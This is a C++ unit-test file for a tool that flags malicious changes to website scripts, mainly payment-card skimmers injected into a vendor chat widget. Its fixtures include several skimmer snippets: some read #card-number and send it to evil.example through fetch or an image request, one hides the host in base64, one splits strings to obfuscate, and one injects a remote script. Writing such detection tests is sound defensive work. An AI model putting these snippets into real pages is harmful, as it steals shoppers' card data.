#include "agent/script/judge/script_judge.h"

#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <random>
#include <string>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "agent/script/judge/script_version.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/agent/script/judge/support/skimmer_styles.h"

namespace skimwatch::script {
namespace {

using testing::HasSubstr;

// A chat widget of a vendor, as it was approved.
constexpr char kChat[] = R"js(
(function (window, document) {
  'use strict';
  var endpoint = 'https://chat.vendor.example/api';
  function create(tag, name) {
    var element = document.createElement(tag);
    element.className = 'chat-' + name;
    return element;
  }
  function send(text, done) {
    var request = new XMLHttpRequest();
    request.open('POST', endpoint + '/messages');
    request.onload = function () { done(JSON.parse(request.responseText)); };
    request.send(JSON.stringify({ text: text }));
  }
  function open() {
    var box = create('div', 'box'), field = create('textarea', 'text');
    field.addEventListener('keydown', function (event) {
      if (event.key === 'Enter') { send(field.value, function (answer) { add(answer.text); }); }
    });
    function add(line) { var p = create('p', 'line'); p.textContent = line; box.appendChild(p); }
    box.appendChild(field);
    document.body.appendChild(box);
  }
  window.Chat = { open: open, version: '1.4.2' };
})(window, document);
)js";

class ScriptJudgeTest : public testing::Test {
 protected:
  v1::Severity Judge(const std::string& before, const std::string& after) {
    change_ = {};
    change_.set_change(v1::ScriptChange::CHANGE_CHANGED);
    *change_.mutable_previous() = VersionOf(before);
    *change_.mutable_current() = VersionOf(after);
    const auto previous = judge_.FirstPass(before, 1000);
    const auto current = judge_.FirstPass(after, 1000);
    return judge_.Judge({.text = &before, .facts = &previous}, {.text = &after, .facts = &current},
                        change_);
  }
  v1::Severity Add(const std::string& text, const ScriptJudge::KnowsHost& knows_host = {}) {
    change_ = {};
    change_.set_change(v1::ScriptChange::CHANGE_ADDED);
    *change_.mutable_current() = VersionOf(text);
    const auto facts = judge_.FirstPass(text, 1000);
    return judge_.Judge({}, {.text = &text, .facts = &facts}, change_, knows_host);
  }
  std::string Reasons() const { return absl::StrJoin(change_.reasons(), "\n"); }

  const ScriptJudge judge_{{}};
  v1::ScriptChange change_;
};

TEST_F(ScriptJudgeTest, AVersionBumpIsLow) {
  std::string next = kChat;
  next.replace(next.find("1.4.2"), 5, "1.4.3");
  EXPECT_EQ(Judge(kChat, next), v1::SEVERITY_LOW);
  EXPECT_THAT(Reasons(), HasSubstr("no new behaviour"));
}

TEST_F(ScriptJudgeTest, ARebuiltScriptIsLow) {
  std::string rebuilt = kChat;
  for (size_t at = rebuilt.find("element"); at != std::string::npos;
       at = rebuilt.find("element", at + 1)) {
    rebuilt.replace(at, 7, "node");
  }
  EXPECT_EQ(Judge(kChat, rebuilt), v1::SEVERITY_LOW) << Reasons();
  EXPECT_FALSE(change_.likeness().functions_percent() < 70);
}

TEST_F(ScriptJudgeTest, TwoLinesThatReadACardAndSendItAreCritical) {
  EXPECT_EQ(Judge(kChat, std::string(kChat) +
                             "document.querySelector('#card-number').onblur = function () {\n"
                             "fetch('https://evil.example/c?' + this.value); };"),
            v1::SEVERITY_CRITICAL);
  EXPECT_THAT(Reasons(), HasSubstr("reads #card-number"));
  EXPECT_THAT(Reasons(), HasSubstr("evil.example by fetch, a host never seen"));
}

TEST_F(ScriptJudgeTest, SizeDoesNotCount) {
  // A thousand harmless functions beside it.
  std::string large = kChat;
  for (int i = 0; i < 1000; ++i) {
    absl::StrAppend(&large, "function helper", i, "(a) { return a.map(x => x + ", i, "); }\n");
  }
  EXPECT_EQ(Judge(kChat, large), v1::SEVERITY_LOW) << Reasons();
  large += "new Image().src='https://evil.example/?'+document.getElementById('cc-number').value;";
  EXPECT_EQ(Judge(kChat, large), v1::SEVERITY_CRITICAL);
}

TEST_F(ScriptJudgeTest, ANewRequestToAKnownHostIsNoAlarm) {
  std::string next = kChat;
  next.insert(next.rfind("window.Chat"),
              "function rate(n) { fetch(endpoint + '/rate?n=' + n); }\n  ");
  EXPECT_EQ(Judge(kChat, next), v1::SEVERITY_MEDIUM) << Reasons();
}

TEST_F(ScriptJudgeTest, AHiddenDestinationIsCritical) {
  EXPECT_EQ(Judge(kChat, std::string(kChat) +
                             "new Image().src=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')+Date.now();"),
            v1::SEVERITY_CRITICAL);
  EXPECT_THAT(Reasons(), HasSubstr("evil.example by img.src, hidden in the text"));
}

TEST_F(ScriptJudgeTest, AScriptFromAHostNeverSeenIsCritical) {
  EXPECT_EQ(Judge(kChat, std::string(kChat) + "var s=document.createElement('script');"
                                              "s.src='https://evil.example/2.js';"
                                              "document.head.appendChild(s);"),
            v1::SEVERITY_CRITICAL);
}

TEST_F(ScriptJudgeTest, JudgesCodeWithSyntaxErrors) {
  const std::string broken = std::string(kChat) + "\n<<<<<<< HEAD\nvar @ = ;\n";
  EXPECT_EQ(Judge(broken, broken + "document.querySelector('#card-number').onblur = function () {"
                                   "fetch('https://evil.example/c?' + this.value); };"),
            v1::SEVERITY_CRITICAL);
  // Not one token of it is understood.
  EXPECT_EQ(Judge(kChat, std::string(kChat) + "\n@@@ }}} ({[ \\ # cardnumber cvv "
                                              "new Image().src='https://evil.example/?'+d ))) @@@"),
            v1::SEVERITY_CRITICAL);
}

TEST_F(ScriptJudgeTest, AnAddedSkimmerIsCriticalAndAnAddedWidgetIsNot) {
  std::mt19937 random(3);
  EXPECT_EQ(Add(MakeSkimmer("plain", random)), v1::SEVERITY_CRITICAL);
  EXPECT_EQ(Add("document.querySelector('nav').addEventListener('click', toggle);"
                "function toggle() { document.body.classList.toggle('open'); }"),
            v1::SEVERITY_MEDIUM)
      << Reasons();
}

TEST_F(ScriptJudgeTest, SaysWhatItDidNotParse) {
  const ScriptJudge small({.parse_bytes_max = 100});
  v1::ScriptChange change;
  change.set_change(v1::ScriptChange::CHANGE_CHANGED);
  const std::string before = kChat;
  const std::string after = before + "a();";
  *change.mutable_previous() = VersionOf(before);
  const auto facts = small.FirstPass(after, 100);
  EXPECT_EQ(
      small.Judge({.text = &before, .facts = &facts}, {.text = &after, .facts = &facts}, change),
      v1::SEVERITY_HIGH);
  EXPECT_THAT(change.not_judged(), HasSubstr("not parsed: larger than 100 bytes"));
  EXPECT_EQ(small.GetStats().too_large, 1U);
}

TEST_F(ScriptJudgeTest, FillsNoMoreThanAFindingHolds) {
  std::string many = kChat;
  for (int i = 0; i < 3000; ++i) {
    absl::StrAppend(&many, "function f", i, "(){fetch('https://h", i,
                    ".example/');document.querySelector('#card-number-", i, "')}\n");
  }
  EXPECT_EQ(Judge(kChat, many), v1::SEVERITY_CRITICAL);
  EXPECT_LE(change_.facts_size(), 256);
  EXPECT_LE(change_.gained_facts_size(), 256);
  EXPECT_LE(change_.reasons_size(), 32);
  EXPECT_LE(change_.functions_size(), 24);
  EXPECT_EQ(change_.functions_added(), 3000U);
  for (const auto& reason : change_.reasons()) EXPECT_LE(reason.size(), 240U);
}

// Reads a card's field itself, and sends it where it belongs.
constexpr char kPayment[] =
    "document.querySelector('#card-number').addEventListener('input', function () {"
    " fetch('https://pay.shop.example/v1', { body: this.value }); });\n";

// Sends it elsewhere, by names that are put together.
constexpr char kSplitSkimmer[] =
    "var q = ['card', '-num', 'ber'];\n"
    "document.querySelector('#' + q[0] + q[1] + q[2]).onblur = function () {\n"
    "  var h = ['ev', 'il.exa', 'mple'];\n"
    "  fetch('htt' + 'ps://' + h[0] + h[1] + h[2] + '/c?' + this.value); };\n";

// Uses up what all constants of a script may cost.
std::string Burner() {
  std::string burner;
  for (int i = 0; i < 6; ++i) {
    absl::StrAppend(&burner, "function b", i, "(n) { for (var i = 0; i < n;) {} return ''; }\n");
    for (int k = 0; k < 9; ++k) absl::StrAppend(&burner, "b", i, "(1);\n");
  }
  return burner;
}

TEST_F(ScriptJudgeTest, SpendingTheEvaluatorsBoundsDoesNotHideASkimmer) {
  EXPECT_EQ(Judge(kPayment, std::string(kPayment) + kSplitSkimmer), v1::SEVERITY_CRITICAL);
  EXPECT_GE(Judge(kPayment, kPayment + Burner() + kSplitSkimmer), v1::SEVERITY_HIGH);
  EXPECT_THAT(change_.not_judged(), HasSubstr("constants not worked out to the end"));
  EXPECT_THAT(Reasons(), HasSubstr("judged by its text: constants not worked out to the end"));
  // One that costs as much as before is as it was.
  EXPECT_EQ(Judge(kPayment + Burner(), kPayment + Burner() + "\nvar version = 2;"),
            v1::SEVERITY_LOW)
      << Reasons();
}

TEST_F(ScriptJudgeTest, ASwappedHostIsSeenWhateverItIsUsedBy) {
  for (const std::string& use : {
           std::string("fetch(new Request('https://$/v1', { method: 'POST' }))"),
           std::string("fetch(new URL('/v1', 'https://$/'), { method: 'POST' })"),
           std::string("axios.create({ baseURL: 'https://$' })"),
           std::string("window.payConfig = { endpoint: 'https://$' }"),
       }) {
    const auto script = [&](const std::string& host) {
      std::string text = "document.querySelector('#card-number').addEventListener('input', g);\n";
      text += use;
      return text.replace(text.find('$'), 1, host);
    };
    EXPECT_GE(Judge(script("pay.shop.example"), script("evil.example")), v1::SEVERITY_HIGH) << use;
    EXPECT_THAT(Reasons(), HasSubstr("evil.example")) << use;
    EXPECT_THAT(Reasons(), HasSubstr("a host never seen")) << use;
    EXPECT_EQ(Judge(script("pay.shop.example"), script("pay.shop.example") + ";var version = 2;"),
              v1::SEVERITY_LOW)
        << use;
  }
  // In a script that has nothing to do with cards it is worth a look.
  EXPECT_EQ(Judge("var a = 'https://a.example/';", "var a = 'https://b.example/';"),
            v1::SEVERITY_MEDIUM);
  EXPECT_THAT(Reasons(), HasSubstr("names b.example, a host never seen"));
}

TEST_F(ScriptJudgeTest, AHostThatIsPartOfAnotherIsNew) {
  const std::string before =
      std::string(kPayment) + "fetch('https://www.googletagmanager.com/api')";
  const std::string after = std::string(kPayment) + "fetch('https://etagmanager.com/api')";
  EXPECT_EQ(Judge(before, after), v1::SEVERITY_CRITICAL);
  EXPECT_THAT(Reasons(), HasSubstr("etagmanager.com by fetch, a host never seen"));
}

TEST_F(ScriptJudgeTest, AHostThatTheVersionBeforePutTogetherIsKnown) {
  const std::string before = "fetch('https://' + ['api', 'shop', 'example'].join('.') + '/v1');";
  EXPECT_EQ(Judge(before, before + "new Image().src = 'https://api.shop.example/?' + d;"),
            v1::SEVERITY_MEDIUM)
      << Reasons();
}

TEST_F(ScriptJudgeTest, SeesTheLastOfManyDestinations) {
  std::string many;
  for (int i = 0; i < 2000; ++i) {
    absl::StrAppend(&many, "load({ src: 'https://cdn", i, ".shop.example/a.js' });\n");
  }
  EXPECT_GE(Judge(many, many + "load({ src: 'https://evil.example/t.js' });"), v1::SEVERITY_HIGH);
  EXPECT_THAT(Reasons(), HasSubstr("sends to evil.example by src, a host never seen"));
  EXPECT_LE(change_.facts_size(), 256);
}

TEST_F(ScriptJudgeTest, AnAddedScriptMayUseHostsThatOthersName) {
  const std::string cart =
      "document.querySelector('#qty').addEventListener('change', function () {"
      " fetch('https://api.shop.example/cart?n=' + this.value); });";
  EXPECT_EQ(Add(cart), v1::SEVERITY_CRITICAL);
  const auto knows = [](const std::string& host) { return host == "api.shop.example"; };
  EXPECT_EQ(Add(cart, knows), v1::SEVERITY_MEDIUM) << Reasons();
  EXPECT_EQ(Add(cart + "fetch('https://evil.example/')", knows), v1::SEVERITY_CRITICAL);
}

TEST_F(ScriptJudgeTest, AQueueOfCommandsIsNoRotatedTable) {
  const std::string before = "fetch('https://pay.shop.example/api/t');";
  const std::string after =
      "(function (w, d) { w.q = w.q || []; w.track = function () { var a = "
      "[].slice.call(arguments);"
      " a.unshift('t'); w.q.push(a); }; fetch('https://pay.shop.example/api/t'); })"
      "(window, document);";
  EXPECT_LE(Judge(before, after), v1::SEVERITY_MEDIUM) << Reasons();
  EXPECT_THAT(Reasons(), testing::Not(HasSubstr("obfuscated")));
}

TEST_F(ScriptJudgeTest, AnotherScriptUnderTheNameIsMediumHoweverSmall) {
  EXPECT_EQ(
      Judge("var a = function (x) { return x + 1; }; function b(y) { return y * 2 - a(y); } b(3);",
            "class Z { constructor() { this.k = 1; } run() { for (const i of this.l)"
            " this.k += i; return this.k; } } new Z().run();"),
      v1::SEVERITY_MEDIUM);
  EXPECT_THAT(Reasons(), HasSubstr("another script under this name"));
  // Of one function and too short for a digest, and yet the same.
  EXPECT_EQ(Judge("var a = 1, version = '1.0.1';", "var a = 1, version = '1.0.2';"),
            v1::SEVERITY_LOW)
      << Reasons();
}

TEST_F(ScriptJudgeTest, SaysWhatItDidNotReadInTime) {
  absl::Time now = absl::UnixEpoch();
  const ScriptJudge slow({.read_time_max = absl::Seconds(5), .now = [&now] {
                            now += absl::Seconds(2);
                            return now;
                          }});
  std::string after = kPayment;
  for (int i = 0; i < 1000; ++i) absl::StrAppend(&after, "f(", i, ");\n");
  after += kSplitSkimmer;
  const std::string before = kPayment;
  const auto facts = slow.FirstPass(after, 100);
  v1::ScriptChange change;
  change.set_change(v1::ScriptChange::CHANGE_CHANGED);
  *change.mutable_previous() = VersionOf(before);
  EXPECT_GE(
      slow.Judge({.text = &before, .facts = &facts}, {.text = &after, .facts = &facts}, change),
      v1::SEVERITY_HIGH);
  EXPECT_THAT(change.not_judged(), HasSubstr("not read to the end: it took longer than 5s"));
  EXPECT_GE(slow.GetStats().too_slow, 1U);
}

TEST_F(ScriptJudgeTest, ATreeThatIsCutCountsAsNotParsed) {
  const ScriptJudge small({.parse_nodes_max = 60});
  const std::string before = "var a = 1;";
  const std::string after = before + kChat;
  const auto facts = small.FirstPass(after, 100);
  v1::ScriptChange change;
  change.set_change(v1::ScriptChange::CHANGE_CHANGED);
  *change.mutable_previous() = VersionOf(before);
  EXPECT_GE(
      small.Judge({.text = &before, .facts = &facts}, {.text = &after, .facts = &facts}, change),
      v1::SEVERITY_HIGH);
  EXPECT_THAT(change.not_judged(), HasSubstr("not parsed to the end"));
  EXPECT_EQ(small.GetStats().too_large, 1U);
}

// The number is 5555555555554444, a published test number.
TEST_F(ScriptJudgeTest, ShowsNoCardNumberThatTheScriptPutsTogether) {
  Judge(kPayment, std::string(kPayment) +
                      "document.querySelector('#card-number-35353535353535' + '353535353534343434')"
                      ".onblur = function () { fetch('https://35353535353535' +"
                      " '353535353534343434.evil.example/?' + this.value); };");
  std::string shown = Reasons();
  for (const auto& fact : change_.facts()) absl::StrAppend(&shown, "\n", fact.excerpt());
  for (const auto& fact : change_.gained_facts()) absl::StrAppend(&shown, "\n", fact.excerpt());
  EXPECT_THAT(shown, HasSubstr("#card-number-"));
  EXPECT_THAT(shown, testing::Not(HasSubstr("35353535353535353535353535")));
}

class YaraJudgeTest : public ScriptJudgeTest {
 protected:
  YaraJudgeTest() {
    std::string name = testing::TempDir() + "/judgeXXXXXX";
    folder_ = mkdtemp(name.data());
  }
  ~YaraJudgeTest() override { std::filesystem::remove_all(folder_); }

  std::string folder_;
};

TEST_F(YaraJudgeTest, ARuleThatIsNewIsNothingTheScriptGained) {
  const std::string name(128, 'r');
  const std::string before = "var widget = 'skim-milk', version = 1;";
  const std::string after = "var widget = 'skim-milk', version = 2;";
  // What was found when the version before was new: nothing, for want of the rule.
  const std::vector<v1::ScriptFact> none = judge_.FirstPass(before, 1000);
  std::ofstream(folder_ + "/a.yar") << "rule " << name
                                    << " { meta: severity = \"critical\" strings: $w = "
                                       "\"skim\" condition: $w }\n";
  const ScriptJudge judge({.yara_folder = folder_});
  const auto severity = [&](const std::string& from, const std::string& to) {
    change_ = {};
    change_.set_change(v1::ScriptChange::CHANGE_CHANGED);
    *change_.mutable_previous() = VersionOf(from);
    const auto facts = judge.FirstPass(to, 1000);
    return judge.Judge({.text = &from, .facts = &none}, {.text = &to, .facts = &facts}, change_);
  };
  EXPECT_EQ(severity(before, after), v1::SEVERITY_LOW) << Reasons();
  for (const auto& fact : change_.gained_facts()) EXPECT_NE(fact.name(), "yara_rule");
  // However long its name is.
  EXPECT_EQ(severity("var widget = 'milk', version = 1;", after), v1::SEVERITY_CRITICAL);
  EXPECT_THAT(Reasons(), HasSubstr("matches the rule rrrr"));
}

TEST_F(YaraJudgeTest, ARuleIsCriticalBySeverityAndNotByItsDescription) {
  std::ofstream(folder_ + "/a.yar")
      << "rule calm { meta: description = \"is (critical) of nothing\" strings: $w = \"skim\" "
         "condition: $w }\n";
  const ScriptJudge judge({.yara_folder = folder_});
  const std::string text = "var widget = 'skim';";
  change_ = {};
  change_.set_change(v1::ScriptChange::CHANGE_ADDED);
  const auto facts = judge.FirstPass(text, 1000);
  EXPECT_EQ(judge.Judge({}, {.text = &text, .facts = &facts}, change_), v1::SEVERITY_HIGH);
}

// Each style of tests/data/skimmers/styles, put anywhere into the widget, from several seeds.
class SkimmerStyle : public ScriptJudgeTest, public testing::WithParamInterface<std::string> {};

TEST_P(SkimmerStyle, IsCriticalWhereverItIsPut) {
  for (uint32_t seed = 1; seed <= 24; ++seed) {
    std::mt19937 random(seed);
    const std::string skimmer = MakeSkimmer(GetParam(), random);
    EXPECT_EQ(Judge(kChat, Inject(kChat, skimmer, random)), v1::SEVERITY_CRITICAL)
        << "seed " << seed << "\n"
        << skimmer << "\n"
        << Reasons();
  }
}

INSTANTIATE_TEST_SUITE_P(AllStyles, SkimmerStyle, testing::ValuesIn(SkimmerStyles()),
                         [](const auto& style) { return style.param; });

}  // namespace
}  // namespace skimwatch::script
